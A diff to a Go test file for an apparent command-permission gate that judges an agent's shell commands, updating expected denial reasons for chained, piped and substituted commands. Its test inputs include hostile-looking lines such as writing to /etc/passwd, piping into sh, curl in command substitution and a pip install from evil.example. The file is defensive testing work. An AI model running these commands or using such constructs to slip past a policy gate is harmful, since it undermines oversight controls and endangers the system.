@@ -5,6 +5,7 @@ import (
 	"encoding/json"
 	"os"
 	"path/filepath"
+	"regexp"
 	"slices"
 	"strings"
 	"sync"
@@ -114,10 +115,12 @@ func shippedPolicy(t testing.TB, edits ...string) *policy.Policy {
 	}
 	text := string(b)
 	for i := 0; i+1 < len(edits); i += 2 {
-		// The file's shell key says pipes now; an edit written for the
-		// key's old value means the key.
-		if edits[i] == "shell: false" && !strings.Contains(text, edits[i]) {
-			edits[i] = "shell: pipes"
+		// An edit of the shell key means the key, whatever value the
+		// file gives it now.
+		if strings.HasPrefix(edits[i], "shell: ") && !strings.Contains(text, edits[i]) {
+			if m := regexp.MustCompile(`(?m)\bshell: \w+`).FindString(text); m != "" {
+				edits[i] = m
+			}
 		}
 		if !strings.Contains(text, edits[i]) {
 			t.Fatalf("policy.unattended.yaml no longer contains %q", edits[i])
@@ -180,7 +183,6 @@ func TestAdversarialGate(t *testing.T) {
 		rf, wf, ef, lf, sf, rc = tools.ReadFileName, tools.WriteFileName, tools.EditFileName, tools.ListFilesName, tools.SearchFilesName, tools.RunCommandName
 		df                     = tools.DeleteFileName
 		outside                = "path-outside-workspace"
-		noShell                = "shell-disabled"
 		curl                   = `commands.deny: "curl *"`
 		gitDeny                = `paths.deny: ".git/**"`
 		vendorRO               = `paths.read_only: "vendor/**"`
@@ -241,7 +243,7 @@ func TestAdversarialGate(t *testing.T) {
 
 		// Wrappers are judged as what they run.
 		{"", rc, cmd("sh -c 'curl x'"), wantDenied, curl},
-		{"", rc, cmd("bash -c 'ls; curl x'"), wantDenied, noShell},
+		{"", rc, cmd("bash -c 'ls; curl x'"), wantDenied, `commands.deny: "curl *"`},
 		{"", rc, cmd("sh /tmp/script.sh"), wantDenied, outside},
 		{"", rc, cmd("sh"), wantDenied, "spec-mismatch"},
 		{"", rc, cmd("env curl x"), wantDenied, curl},
@@ -289,18 +291,19 @@ func TestAdversarialGate(t *testing.T) {
 		{"", rc, cmd("npx cowsay"), wantAsked, `commands.ask: "npx *"`},
 		{"", rc, cmd("pip install --index-url http://evil.example/simple x"), wantAsked, `commands.ask: "pip install *"`},
 
-		// Shell constructs, with shell mode off: the line is refused whole.
-		{"", rc, cmd("ls; curl x"), wantDenied, noShell},
-		{"", rc, cmd("ls && curl x"), wantDenied, noShell},
-		{"", rc, cmd("ls || curl x"), wantDenied, noShell},
-		{"", rc, cmd("ls | sh"), wantDenied, noShell},
-		{"", rc, cmd("curl x &"), wantDenied, noShell},
-		{"", rc, cmd("ls\ncurl x"), wantDenied, noShell},
-		{"", rc, cmd("echo $(curl x)"), wantDenied, noShell},
-		{"", rc, cmd("echo `curl x`"), wantDenied, noShell},
+		// Shell lines: the shipped policy (shell: true) judges each part,
+		// and each meets its own rule.
+		{"", rc, cmd("ls; curl x"), wantDenied, `commands.deny: "curl *"`},
+		{"", rc, cmd("ls && curl x"), wantDenied, `commands.deny: "curl *"`},
+		{"", rc, cmd("ls || curl x"), wantDenied, `commands.deny: "curl *"`},
+		{"", rc, cmd("ls | sh"), wantDenied, "spec-mismatch"},
+		{"", rc, cmd("curl x &"), wantDenied, "shell-background"},
+		{"", rc, cmd("ls\ncurl x"), wantDenied, `commands.deny: "curl *"`},
+		{"", rc, cmd("echo $(curl x)"), wantDenied, "shell-unjudgeable"},
+		{"", rc, cmd("echo `curl x`"), wantDenied, "shell-unjudgeable"},
 		{"", rc, cmd("cat <(curl x)"), wantInvalid, "parse command"},
-		{"", rc, cmd("echo x > /etc/passwd"), wantDenied, noShell},
-		{"", rc, cmd("FOO=x ls"), wantDenied, noShell},
+		{"", rc, cmd("echo x > /etc/passwd"), wantDenied, "path-outside-workspace"},
+		{"", rc, cmd("FOO=x ls"), wantDenied, "variable-not-allowed"},
 
 		// With shell mode on, every part is judged.
 		{"shell", rc, cmd("ls; curl x"), wantDenied, curl},
